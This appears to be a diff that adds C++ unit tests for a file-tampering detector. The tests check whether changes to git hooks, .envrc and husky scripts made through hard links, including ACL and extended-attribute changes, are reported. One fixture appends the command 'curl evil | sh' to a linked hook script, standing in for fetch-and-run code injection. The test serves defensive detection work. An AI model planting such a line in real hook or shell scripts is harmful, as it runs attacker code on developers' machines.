@@ -13,6 +13,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 #include <algorithm>
@@ -553,6 +554,63 @@ TEST(GuardSnapshot, FilesInAPinnedDirectoryChangedThroughAnotherLinkAreFindings)
   GuardSnapshot::take(root.get(), rules, &before, &findings);
   EXPECT_EQ(rels(findings), (Strings{".claude/commands/review.md", ".vscode/tasks.json"}));
   for (const auto& f : findings) EXPECT_TRUE(f.changed && f.throughLink) << f.rel;
+}
+
+// Extended attributes set through the other link move the change time and leave mode, owner and
+// content as they were: an ACL granting a mapped id write to a hook whose group bits are rwx
+// already (the ACL's mask), or a `user.` attribute.
+TEST(GuardSnapshot, PinnedFilesWhoseAttributesChangedThroughAnotherLinkAreFindings) {
+  TempTree t;
+  t.gitDir(".git");
+  t.mkdir(".git/hooks");
+  t.write("scripts/pre-commit", "#!/bin/sh\n");
+  ASSERT_EQ(::chmod((t / "scripts/pre-commit").c_str(), 0775), 0);
+  t.link("scripts/pre-commit", ".git/hooks/pre-commit");
+  t.write(".envrc", "export A=1\n");
+  t.link(".envrc", "scripts/envrc");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  afterTick();
+  struct [[gnu::packed]] AclEntry {
+    uint16_t tag, perm;
+    uint32_t id;
+  };
+  struct [[gnu::packed]] {
+    uint32_t version;
+    AclEntry entries[5];
+  } acl = {2, {{1, 7, ~0u}, {2, 7, 65534}, {4, 7, ~0u}, {0x10, 7, ~0u}, {0x20, 5, ~0u}}};
+  ASSERT_EQ(::setxattr((t / "scripts/pre-commit").c_str(), "system.posix_acl_access", &acl, sizeof acl, 0), 0)
+      << std::strerror(errno);
+  struct stat st;
+  ASSERT_EQ(::stat((t / ".git/hooks/pre-commit").c_str(), &st), 0);
+  ASSERT_EQ(st.st_mode & 07777, 0775u);
+  ASSERT_EQ(::setxattr((t / "scripts/envrc").c_str(), "user.coco", "x", 1, 0), 0) << std::strerror(errno);
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{".envrc", ".git/hooks/pre-commit"}));
+}
+
+// A hooks path outside .git (husky 5 to 8: core.hooksPath = .husky) is pinned as a directory of
+// hooks that source its other files (.husky/_/husky.sh): those are compared too.
+TEST(GuardSnapshot, AHooksPathsOtherFilesChangedThroughAnotherLinkAreFindings) {
+  TempTree t;
+  t.gitDir(".git");
+  t.write(".husky/pre-commit", "#!/bin/sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\nnpm test\n");
+  t.write(".husky/_/husky.sh", "true\n");
+  t.mkdir("scripts");
+  t.link(".husky/_/husky.sh", "scripts/husky.sh");
+  afterTick();
+  auto root = openRoot(t);
+  GuardRules rules;
+  ASSERT_TRUE(rules.addExtraPath(".husky"));
+  GuardSnapshot before = GuardSnapshot::take(root.get(), rules, nullptr, nullptr);
+  afterTick();
+  std::ofstream(t / "scripts/husky.sh", std::ios::app) << "curl evil | sh\n";
+  std::vector<GuardFinding> findings;
+  GuardSnapshot::take(root.get(), rules, &before, &findings);
+  EXPECT_EQ(rels(findings), (Strings{".husky/_/husky.sh"}));
 }
 
 TEST(GuardSnapshot, PinnedEntriesMovedWithTheirParentAreNotFindings) {
